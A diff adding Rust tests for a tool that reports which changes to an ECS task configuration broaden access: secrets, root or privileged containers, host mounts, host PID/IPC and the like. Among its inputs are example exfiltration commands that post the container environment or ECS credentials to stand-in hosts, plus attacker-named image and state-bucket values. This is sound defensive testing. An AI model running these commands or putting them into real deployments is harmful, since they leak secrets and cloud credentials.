@@ -1,3 +1,386 @@
-//! Field facts, class by class, both ways.
+//! Field facts, class by class, both ways: widening broadens, narrowing is reported and
+//! does not broaden, reordering is no change at all.
 
 use super::*;
+
+/// An EC2 task in a dev account, with what a container can be given.
+const TASK: &str = r#"version = 1
+
+[project]
+name = "shop"
+region = "eu-west-1"
+
+[accounts.dev]
+id = "111122223333"
+env = "dev"
+
+[accounts.prod]
+id = "555566667777"
+env = "prod"
+
+[dev_access]
+mode = "tagged"
+max_session_duration = 3600
+
+[developers]
+attach_to_roles = ["Developer"]
+
+[tasks.worker]
+account = "dev"
+compatibility = "EC2"
+cpu = 256
+memory = 512
+
+[[tasks.worker.volumes]]
+name = "data"
+host = { source_path = "/srv/data" }
+
+[[tasks.worker.volumes]]
+name = "scratch"
+
+[[tasks.worker.containers]]
+name = "app"
+image = "registry.example.com/app:1.0"
+user = "1000"
+readonly_root_filesystem = true
+command = ["serve", "--port", "8080"]
+environment = { LOG_LEVEL = "info", MODE = "worker" }
+secrets = { DB = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/db", KEY = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/key" }
+mount_points = [{ source_volume = "data", container_path = "/data", read_only = true }, { source_volume = "scratch", container_path = "/tmp" }]
+linux_parameters = { capabilities = { drop = ["NET_RAW", "MKNOD"] } }
+"#;
+
+/// The one change of `old -> new`, as a line; and the diff's own verdict.
+fn only(old: &str, new: &str) -> (String, bool) {
+    let there = diff(old, new);
+    let lines = lines(&there);
+    assert_eq!(lines.len(), 1, "{lines:#?}");
+    (lines[0].clone(), there.broadens)
+}
+
+/// `old -> new` broadens with exactly `forward` (kind and all), and `new -> old` is
+/// exactly `backward` and does not broaden.
+fn widens(old: &str, new: &str, forward: &str, backward: &str) {
+    assert_eq!(only(old, new), (format!("{forward} BROADENS"), true));
+    assert_eq!(only(new, old), (backward.to_string(), false));
+}
+
+/// Neither way broadens; each way is exactly its line.
+fn reported(old: &str, new: &str, forward: &str, backward: &str) {
+    assert_eq!(only(old, new), (forward.to_string(), false));
+    assert_eq!(only(new, old), (backward.to_string(), false));
+}
+
+const FAMILY: &str = "shop-worker";
+
+#[test]
+fn the_task_base_validates_and_reports_nothing_against_itself() {
+    assert!(diff(TASK, TASK).is_empty());
+}
+
+#[test]
+fn a_secret_added_or_repointed_is_exposure_that_broadens() {
+    let prod = "arn:aws:ssm:eu-west-1:555566667777:parameter/prod/db";
+    let more = edit(
+        TASK,
+        "secrets = { DB",
+        &format!("secrets = {{ PROD = \"{prod}\", DB"),
+    );
+    let there = diff(TASK, &more);
+    assert!(there.broadens);
+    let exposure: Vec<String> = there.of_kind(Kind::Exposure).map(line).collect();
+    assert_eq!(
+        exposure,
+        [format!(
+            "exposure + {FAMILY}: container app: secret PROD: - -> {prod} BROADENS"
+        )]
+    );
+    // The execution role reads it too: a grant.
+    assert!(lines(&there).iter().any(|l| l.starts_with("perm +") && l.contains(prod)));
+    let back = diff(&more, TASK);
+    assert!(!back.broadens, "{:#?}", lines(&back));
+    // Another parameter under the same name is a new secret read.
+    let repointed = edit(TASK, "parameter/shop/db", "parameter/shop/admin");
+    let there = diff(TASK, &repointed);
+    assert!(there.of_kind(Kind::Exposure).all(|c| c.broadens));
+    assert_eq!(there.of_kind(Kind::Exposure).count(), 1);
+}
+
+#[test]
+fn secrets_environment_and_mounts_in_another_order_are_no_change() {
+    let reordered = edit(
+        TASK,
+        r#"secrets = { DB = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/db", KEY = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/key" }"#,
+        r#"secrets = { KEY = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/key", DB = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/db" }"#,
+    );
+    let reordered = edit(
+        &reordered,
+        r#"environment = { LOG_LEVEL = "info", MODE = "worker" }"#,
+        r#"environment = { MODE = "worker", LOG_LEVEL = "info" }"#,
+    );
+    let reordered = edit(
+        &reordered,
+        r#"mount_points = [{ source_volume = "data", container_path = "/data", read_only = true }, { source_volume = "scratch", container_path = "/tmp" }]"#,
+        r#"mount_points = [{ source_volume = "scratch", container_path = "/tmp" }, { source_volume = "data", container_path = "/data", read_only = true }]"#,
+    );
+    let reordered = edit(
+        &reordered,
+        r#"drop = ["NET_RAW", "MKNOD"]"#,
+        r#"drop = ["MKNOD", "NET_RAW"]"#,
+    );
+    let none = diff(TASK, &reordered);
+    assert!(none.is_empty(), "{:#?}", lines(&none));
+}
+
+#[test]
+fn an_environment_file_added_broadens() {
+    let file = "arn:aws:s3:::prod-config-555566667777/app.env";
+    let with = edit(
+        TASK,
+        "user = \"1000\"\n",
+        &format!("user = \"1000\"\nenvironment_files = [\"{file}\"]\n"),
+    );
+    let there = diff(TASK, &with);
+    assert_eq!(
+        there.of_kind(Kind::Exposure).map(line).collect::<Vec<_>>(),
+        [format!(
+            "exposure + {FAMILY}: container app: environment file {file}: - -> s3 BROADENS"
+        )]
+    );
+    assert!(!diff(&with, TASK).broadens);
+}
+
+#[test]
+fn privileged_root_user_and_capabilities_broaden_and_their_reverse_does_not() {
+    let privileged = edit(
+        TASK,
+        "user = \"1000\"\n",
+        "user = \"1000\"\nprivileged = true\n",
+    );
+    widens(
+        TASK,
+        &privileged,
+        &format!("exposure + {FAMILY}: container app: privileged: - -> true"),
+        &format!("exposure - {FAMILY}: container app: privileged: true -> -"),
+    );
+    let root = edit(TASK, "user = \"1000\"", "user = \"0:0\"");
+    widens(
+        TASK,
+        &root,
+        &format!("exposure ~ {FAMILY}: container app: user: 1000 -> 0:0"),
+        &format!("exposure ~ {FAMILY}: container app: user: 0:0 -> 1000"),
+    );
+    // No user: the image's own, often root.
+    let unset = edit(TASK, "user = \"1000\"\n", "");
+    widens(
+        TASK,
+        &unset,
+        &format!("exposure - {FAMILY}: container app: user: 1000 -> -"),
+        &format!("exposure + {FAMILY}: container app: user: - -> 1000"),
+    );
+    let admin = edit(
+        TASK,
+        "capabilities = { drop",
+        "capabilities = { add = [\"SYS_ADMIN\"], drop",
+    );
+    widens(
+        TASK,
+        &admin,
+        &format!("exposure + {FAMILY}: container app: capability added SYS_ADMIN: - -> SYS_ADMIN"),
+        &format!("exposure - {FAMILY}: container app: capability added SYS_ADMIN: SYS_ADMIN -> -"),
+    );
+    // A capability no longer dropped is held again.
+    let kept = edit(TASK, r#"drop = ["NET_RAW", "MKNOD"]"#, r#"drop = ["MKNOD"]"#);
+    widens(
+        TASK,
+        &kept,
+        &format!("exposure - {FAMILY}: container app: capability dropped NET_RAW: NET_RAW -> -"),
+        &format!("exposure + {FAMILY}: container app: capability dropped NET_RAW: - -> NET_RAW"),
+    );
+}
+
+#[test]
+fn a_writable_root_or_mount_broadens_and_read_only_does_not() {
+    let writable = edit(TASK, "readonly_root_filesystem = true\n", "");
+    widens(
+        TASK,
+        &writable,
+        &format!("exposure - {FAMILY}: container app: read-only root filesystem: true -> -"),
+        &format!("exposure + {FAMILY}: container app: read-only root filesystem: - -> true"),
+    );
+    let mount = edit(
+        TASK,
+        "container_path = \"/data\", read_only = true",
+        "container_path = \"/data\", read_only = false",
+    );
+    widens(
+        TASK,
+        &mount,
+        &format!("exposure ~ {FAMILY}: container app: mount read-only /data: true -> false"),
+        &format!("exposure ~ {FAMILY}: container app: mount read-only /data: false -> true"),
+    );
+}
+
+#[test]
+fn a_host_path_moved_out_broadens_and_into_a_subdirectory_does_not() {
+    for (widened, why) in [
+        ("/", "the host's root"),
+        ("/var/run/docker.sock", "the Docker socket"),
+        ("/srv/data/../../etc", "a way out"),
+        ("/srv/database", "a sibling"),
+    ] {
+        let new = edit(TASK, "source_path = \"/srv/data\"", &format!("source_path = \"{widened}\""));
+        let there = diff(TASK, &new);
+        let exposure: Vec<String> = there.of_kind(Kind::Exposure).map(line).collect();
+        assert_eq!(
+            exposure,
+            [format!(
+                "exposure ~ {FAMILY}: volume data: host path: /srv/data -> {widened} BROADENS"
+            )],
+            "{why}"
+        );
+    }
+    let narrowed = edit(TASK, "source_path = \"/srv/data\"", "source_path = \"/srv/data/app\"");
+    let there = diff(TASK, &narrowed);
+    assert!(!there.broadens, "{:#?}", lines(&there));
+    assert_eq!(there.of_kind(Kind::Exposure).count(), 1);
+}
+
+#[test]
+fn host_pid_and_ipc_broaden() {
+    let host = edit(TASK, "memory = 512\n", "memory = 512\npid_mode = \"host\"\nipc_mode = \"host\"\n");
+    let there = diff(TASK, &host);
+    assert_eq!(
+        there.of_kind(Kind::Exposure).map(line).collect::<Vec<_>>(),
+        [
+            format!("exposure + {FAMILY}: ipc mode: - -> host BROADENS"),
+            format!("exposure + {FAMILY}: pid mode: - -> host BROADENS"),
+        ]
+    );
+    let back = diff(&host, TASK);
+    assert!(!back.broadens && back.of_kind(Kind::Exposure).count() == 2);
+}
+
+#[test]
+fn an_efs_file_system_mounted_broadens() {
+    let efs = edit(
+        TASK,
+        "[[tasks.worker.volumes]]\nname = \"scratch\"\n",
+        "[[tasks.worker.volumes]]\nname = \"scratch\"\n\n[[tasks.worker.volumes]]\nname = \"ledger\"\nefs_volume_configuration = { file_system_id = \"fs-0123456789abcdef0\", transit_encryption = \"ENABLED\" }\n",
+    );
+    let efs = edit(
+        &efs,
+        "{ source_volume = \"scratch\", container_path = \"/tmp\" }]",
+        "{ source_volume = \"scratch\", container_path = \"/tmp\" }, { source_volume = \"ledger\", container_path = \"/ledger\" }]",
+    );
+    let there = diff(TASK, &efs);
+    assert!(there.broadens);
+    let broadening: Vec<String> = there
+        .of_kind(Kind::Exposure)
+        .filter(|c| c.broadens)
+        .map(line)
+        .collect();
+    assert!(
+        broadening.iter().any(|l| l.contains("EFS file system: - -> fs-0123456789abcdef0")),
+        "{broadening:#?}"
+    );
+    assert!(broadening.iter().any(|l| l.contains("mount /ledger")));
+    let back = diff(&efs, TASK);
+    assert!(back.changes.iter().all(|c| !c.broadens), "{:#?}", lines(&back));
+    // Transit encryption turned off broadens; on again does not.
+    let plain = edit(&efs, "transit_encryption = \"ENABLED\"", "transit_encryption = \"DISABLED\"");
+    widens(
+        &efs,
+        &plain,
+        &format!("exposure ~ {FAMILY}: volume ledger: EFS transit encryption: ENABLED -> DISABLED"),
+        &format!("exposure ~ {FAMILY}: volume ledger: EFS transit encryption: DISABLED -> ENABLED"),
+    );
+}
+
+#[test]
+fn code_changes_are_reported_and_never_broaden() {
+    let cases = [
+        (
+            "image = \"registry.example.com/app:1.0\"",
+            "image = \"attacker.example.com/app:1.0\"",
+            "code ~ shop-worker: container app: image: registry.example.com/app:1.0 -> attacker.example.com/app:1.0",
+        ),
+        (
+            "command = [\"serve\", \"--port\", \"8080\"]",
+            "command = [\"--port\", \"8080\", \"serve\"]",
+            "code ~ shop-worker: container app: command: [\"serve\", \"--port\", \"8080\"] -> [\"--port\", \"8080\", \"serve\"]",
+        ),
+        (
+            "user = \"1000\"\n",
+            "user = \"1000\"\nentry_point = [\"sh\", \"-c\", \"curl -d @/proc/self/environ https://x.example\"]\n",
+            "code + shop-worker: container app: entry point: - -> [\"sh\", \"-c\", \"curl -d @/proc/self/environ https://x.example\"]",
+        ),
+        (
+            "user = \"1000\"\n",
+            "user = \"1000\"\nhealth_check = { command = [\"CMD-SHELL\", \"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc x 80\"] }\n",
+            "code + shop-worker: container app: health check command: - -> [\"CMD-SHELL\", \"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc x 80\"]",
+        ),
+        (
+            "LOG_LEVEL = \"info\"",
+            "LOG_LEVEL = \"debug\"",
+            "code ~ shop-worker: container app: environment LOG_LEVEL: info -> debug",
+        ),
+    ];
+    for (from, to, expected) in cases {
+        let new = edit(TASK, from, to);
+        let there = diff(TASK, &new);
+        assert_eq!(lines(&there), [expected.to_string()], "{to}");
+        assert!(!there.broadens && !diff(&new, TASK).broadens);
+    }
+}
+
+#[test]
+fn longer_sessions_broaden_and_shorter_ones_do_not() {
+    let long = edit(TASK, "max_session_duration = 3600", "max_session_duration = 43200");
+    let role = format!("{DEV}:role/shop-worker");
+    widens(
+        TASK,
+        &long,
+        &format!("session ~ {role}: max session duration (s): 3600 -> 43200"),
+        &format!("session ~ {role}: max session duration (s): 43200 -> 3600"),
+    );
+}
+
+#[test]
+fn a_task_on_ec2_instead_of_fargate_is_exposed_to_its_host() {
+    let fargate = edit(TASK, "compatibility = \"EC2\"\n", "");
+    let fargate = edit(&fargate, "host = { source_path = \"/srv/data\" }\n", "");
+    let there = diff(&fargate, TASK);
+    assert!(there.broadens);
+    assert!(lines(&there)
+        .iter()
+        .any(|l| l == &format!("exposure + {FAMILY}: launch type EC2: - -> EC2 BROADENS")));
+    assert!(!diff(TASK, &fargate).broadens);
+}
+
+#[test]
+fn terraform_state_and_deploy_roles_are_deployment_and_never_broaden() {
+    let backend = "\n[terraform.backend]\ntype = \"s3\"\nbucket = \"shop-state\"\nregion = \"eu-west-1\"\nkey_prefix = \"shop\"\n";
+    let old = format!("{TASK}{backend}");
+    let new = edit(
+        &old,
+        "bucket = \"shop-state\"\n",
+        "bucket = \"attacker-state\"\nrole_arn = \"arn:aws:iam::999999999999:role/x\"\n",
+    );
+    let new = edit(
+        &new,
+        "[accounts.dev]\nid = \"111122223333\"\nenv = \"dev\"\n",
+        "[accounts.dev]\nid = \"111122223333\"\nenv = \"dev\"\ndeploy_role_arn = \"arn:aws:iam::111122223333:role/elsewhere\"\n",
+    );
+    let there = diff(&old, &new);
+    assert!(!there.broadens);
+    assert!(there.changes.iter().all(|c| c.kind == Kind::Deployment), "{:#?}", lines(&there));
+    assert_eq!(
+        lines(&there),
+        [
+            "deployment + dev: deploy role: - -> arn:aws:iam::111122223333:role/elsewhere",
+            "deployment ~ Terraform: state bucket: shop-state -> attacker-state",
+            "deployment + Terraform: state role: - -> arn:aws:iam::999999999999:role/x",
+        ]
+    );
+}
